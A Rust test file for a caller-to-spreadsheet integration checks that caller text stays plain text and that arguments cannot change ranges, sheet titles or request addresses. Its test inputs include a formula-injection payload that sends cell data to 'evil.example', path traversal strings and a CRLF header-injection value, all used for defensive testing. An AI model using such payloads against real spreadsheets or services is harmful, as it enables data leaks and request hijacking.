//! Callers who try to write something else than a row.

use serde_json::{Value, json};

use super::{SPREADSHEET, Scene, adds_messages, finds_callers};
use crate::support::desk::Seat;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nothing_that_a_caller_says_becomes_a_formula_a_number_or_a_day() {
    let scene = Scene::open().await;
    scene.live("append_row", &adds_messages()).await;
    let texts = [
        "=HYPERLINK(\"https://evil.example/?\"&A2,\"ok\")",
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "'=1",
        "=IMPORTRANGE(\"x\",\"A1\")",
        "\t=1+1",
        "007",
        "TRUE",
        "3/9/2026",
        "1e9",
    ];
    for said in texts {
        let arguments = json!({"caller_phone": "2065550142", "notes": said});
        Seat::output(&scene.confirm("append_row", arguments).await);
    }
    for (index, said) in texts.iter().enumerate() {
        let cell = scene.sheets.with(|sheets| sheets.grid("It's here").cell(4 + index, 2).clone());
        assert_eq!(cell, super::Cell::Text((*said).to_owned()));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_argument_reaches_a_range_a_title_or_the_address() {
    let scene = Scene::open().await;
    scene.live("append_row", &adds_messages()).await;
    let mut finds = finds_callers();
    finds["lookup"] =
        json!({"header": "Full name", "param": "caller_name", "match": "ignore_case", "description": "Who."});
    scene.live("find_row", &finds).await;
    let usual = {
        scene.seat.call("find_row", json!({"caller_name": "Ada Lovelace"})).await;
        scene.confirm("append_row", json!({"caller_phone": "2065550142", "notes": "x"})).await;
        scene.sheets.seen()
    };
    let addresses = |seen: &[super::Seen]| {
        seen.iter()
            .map(|seen| (seen.method.clone(), seen.path.clone(), seen.query.clone()))
            .collect::<Vec<_>>()
    };
    for said in [
        "'Orders: 2026/27!'!A1",
        "../../drive/v3/files",
        "A1:append?valueInputOption=USER_ENTERED",
        "%2e%2e%2f",
        "x\r\nHost: evil",
    ] {
        let found = scene.seat.call("find_row", json!({"caller_name": said})).await;
        assert_eq!(Seat::output(&found)["count"], 0, "{said}");
        let arguments = json!({"caller_phone": "2065550142", "notes": said, "caller_name": said});
        Seat::output(&scene.confirm("append_row", arguments).await);
        assert_eq!(addresses(&scene.sheets.seen()), addresses(&usual), "{said}");
    }
    for (name, value) in [
        ("range", json!("Empty!A1")),
        ("sheet", json!("Empty")),
        ("spreadsheetId", json!("other")),
        ("values", json!([["x"]])),
    ] {
        let mut arguments = json!({"caller_phone": "2065550142", "notes": "x"});
        arguments[name] = value;
        scene.seat.ask("append_row", arguments, json!({})).await.problem(422, "arguments_invalid");
    }
    assert_eq!(scene.rows("Empty"), 0);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_text_that_no_cell_holds_is_refused_and_the_longest_that_one_does_is_kept_whole() {
    let scene = Scene::open().await;
    scene.live("append_row", &adds_messages()).await;
    let said = |length: usize| json!({"caller_phone": "2065550142", "notes": "ä".repeat(length)});
    let refused = scene.seat.ask("append_row", said(100_000), json!({})).await;
    refused.problem(422, "arguments_invalid");
    assert_eq!(refused.faulty_fields(), ["notes"]);
    assert!(refused.text.len() < 2_000, "what was said isn't said back");
    assert!(scene.sheets.seen().is_empty());
    Seat::output(&scene.confirm("append_row", said(50_000)).await);
    assert_eq!(scene.row("It's here", 5)[2].chars().count(), 50_000);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn titles_and_headers_with_marks_of_the_notation_name_what_they_name() {
    let scene = Scene::open().await;
    let titles = ["A1:B2", "a'!b'", "50% & more?#/..", "%27", "naïve 表 +", "x:append"];
    for (index, title) in titles.iter().enumerate() {
        scene.sheets.with(|sheets| {
            let id = 20 + u32::try_from(index).unwrap();
            sheets.grids.push(super::Grid::new(id, title, vec![vec!["Message".into()]]));
        });
        let config = json!({"spreadsheet_id": SPREADSHEET, "sheet": title,
            "columns": [{"header": "Message", "param": "notes", "description": "What the caller wants."}]});
        let done: Value = {
            scene.live("append_row", &config).await;
            scene.confirm("append_row", json!({"notes": "here"})).await
        };
        Seat::output(&done);
        assert_eq!(scene.row(title, 2), ["here"], "{title}");
        scene.seat.client.delete(&scene.seat.path("/integrations/google_sheets/provision")).await.ok();
    }
    assert_eq!(scene.rows("It's here"), 4);
}
